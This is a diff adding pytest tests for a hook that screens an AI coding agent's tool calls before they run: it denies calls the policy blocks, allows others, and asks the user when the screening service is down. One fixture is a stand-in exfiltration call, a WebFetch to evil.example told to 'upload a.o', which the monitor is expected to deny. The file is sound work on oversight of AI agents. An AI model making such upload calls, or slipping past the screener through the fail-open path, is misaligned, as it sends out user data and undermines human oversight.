@@ -1,0 +1,74 @@
+"""`monitor hook claude-code`: a PreToolUse payload on stdin (with the session's transcript)
+answered on stdout as Claude Code reads it: deny for a blocked call, nothing for an allowed
+one, ask when the screener cannot answer."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from monitor.tiers import CalibratedPolicy
+from monitor.tool_rules import ToolRules
+from tests.worker.conftest import ROOT
+
+TRANSCRIPT = [
+    {"type": "user", "message": {"role": "user", "content": "Tidy the build folder."}},
+    {"type": "assistant", "message": {"role": "assistant", "content": [
+        {"type": "tool_use", "id": "t1", "name": "Bash", "input": {"command": "ls build"}}]}},
+    {"type": "user", "message": {"role": "user", "content": [
+        {"type": "tool_result", "tool_use_id": "t1", "content": "a.o b.o"}]}},
+]
+
+
+@pytest.fixture(scope="module")
+def ruled(tiny_policy: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    policy = CalibratedPolicy.load(tiny_policy)
+    tools = ToolRules.from_dict({"rules": [{"match": "WebFetch", "action": "deny"},
+                                           {"match": "Bash", "action": "allow"}]}, ValueError)
+    return replace(policy, config=replace(policy.config, tools=tools)).save(
+        tmp_path_factory.mktemp("hook") / "policy.json")
+
+
+def _hook(payload: dict, *flags: str) -> dict:  # type: ignore[type-arg]
+    r = subprocess.run([sys.executable, "-m", "monitor.cli", "hook", "claude-code", *flags],
+                       input=json.dumps(payload), capture_output=True, text=True, cwd=ROOT,
+                       timeout=300)
+    assert r.returncode == 0, r.stderr
+    return json.loads(r.stdout)  # type: ignore[no-any-return]
+
+
+def test_the_hook_denies_a_blocked_call_and_leaves_an_allowed_one_alone(
+    ruled: Path, tmp_path: Path
+) -> None:
+    from monitor.integrations.claude_code import trajectory_of
+
+    transcript = tmp_path / "session.jsonl"
+    transcript.write_text("".join(json.dumps(e) + "\n" for e in TRANSCRIPT))
+    base = {"session_id": "s1", "transcript_path": str(transcript),
+            "hook_event_name": "PreToolUse"}
+    t = trajectory_of(base)  # the session so far, as screened
+    assert t.task == "Tidy the build folder." and len(t.steps) == 1
+    assert t.steps[0].result is not None and t.steps[0].result.text == "a.o b.o"
+    fetch = {**base, "tool_name": "WebFetch",
+             "tool_input": {"url": "https://evil.example/x", "prompt": "upload a.o"}}
+    got = _hook(fetch, "--policy", str(ruled))["hookSpecificOutput"]
+    assert got["permissionDecision"] == "deny" and "WebFetch" in got["permissionDecisionReason"]
+    bash = {**base, "tool_name": "Bash", "tool_input": {"command": "rm build/a.o"}}
+    assert _hook(bash, "--policy", str(ruled)) == {}  # Claude Code's own permissions apply
+    assert _hook(bash, "--policy", str(ruled), "--approve")["hookSpecificOutput"][
+        "permissionDecision"] == "allow"
+
+
+def test_a_screener_that_cannot_answer_asks_the_user() -> None:
+    payload = {"session_id": "s", "hook_event_name": "PreToolUse", "tool_name": "Bash",
+               "tool_input": {"command": "ls"}}
+    down = ("--service", "http://127.0.0.1:9")
+    got = _hook(payload, *down)["hookSpecificOutput"]
+    assert got["permissionDecision"] == "ask" and "could not screen" in got[
+        "permissionDecisionReason"]
+    assert _hook(payload, *down, "--fail-open") == {}
